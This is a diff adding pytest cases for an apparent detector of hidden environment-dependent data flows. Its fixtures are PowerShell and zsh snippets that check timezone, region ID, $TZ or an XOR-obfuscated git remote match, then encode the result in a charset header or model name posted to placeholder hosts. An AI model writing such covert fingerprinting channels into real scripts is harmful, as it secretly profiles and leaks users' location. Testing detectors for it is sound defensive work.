@@ -92,3 +92,35 @@ def test_a_sentence_is_no_value_of_a_signal(tmp_path: Path) -> None:
     """bashbug waits where the subject of its form, in which the user's name stands, was not changed."""
     assert _deciding(tmp_path, "[50 character or so descriptive subject here (for reference)]") == []
     assert _deciding(tmp_path, "someone") == [("user_name",)]
+
+
+FORMS = {
+    "a truth as the place in a list": "$b = [int]((Get-TimeZone).BaseUtcOffset.TotalMinutes -in 480, 210)\n$c = ('utf-8', 'UTF-8')[$b]\n",
+    "a question to a number of a signal": (
+        "$x = [bigint]::Parse('12855504354071922204')\n"
+        "$c = ('utf-8', 'UTF-8')[[int](-not [bigint]::Divide($x, [bigint]::Pow(2, (Get-WinHomeLocation).GeoId)).IsEven)]\n"
+    ),
+    "bits of two signals": (
+        "$a = [int]((Get-TimeZone).BaseUtcOffset.TotalMinutes -in 480, 210)\n$b = [int]((Get-WinHomeLocation).GeoId -eq 45)\n"
+        "$c = ('utf-8', 'UTF-8')[$a -band $b]\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("name", FORMS)
+def test_a_truth_that_picks_an_item_decides_the_form(tmp_path: Path, name: str) -> None:
+    text = FORMS[name] + 'Invoke-RestMethod -Method Post -Uri "https://a.example/v1" -Body x -ContentType "application/json; charset=$c"\n'
+    assert any(isinstance(each, FlowTraced) and each.selects == "form" and each.sink == "header" for each in observed(tmp_path, "a.ps1", text))
+
+
+def test_a_number_in_hexadecimal_may_end_in_d(tmp_path: Path) -> None:
+    text = "$w = -join (0x4C,0x42,0x5F,0x4D | ForEach-Object { [char]($_ -bxor 0x2B) })\nif ((git remote get-url origin) -match $w) { $m = 'a' } else { $m = 'b' }\n"
+    text += 'Invoke-RestMethod -Method Post -Uri "https://a.example/v1/messages" -Body "{`"model`":`"$m`"}"\n'
+    flows = [each for each in observed(tmp_path, "a.ps1", text) if isinstance(each, FlowTraced) and each.selects == "model"]
+    assert any("gitf" in step.text for flow in flows for step in flow.steps)
+
+
+def test_a_block_of_zsh_ends_on_the_line_that_it_begins_on(tmp_path: Path) -> None:
+    text = "#!/bin/zsh\n_zone() { print -rn -- $TZ }\nsend() { curl -s -d \"{\\\"model\\\":\\\"$1\\\"}\" https://api.example.com/v1/messages }\n"
+    text += "case $(_zone) in Asia/Shanghai) send small;; *) send large;; esac\n"
+    assert any(isinstance(each, FlowTraced) and each.selects == "model" for each in observed(tmp_path, "a.zsh", text))
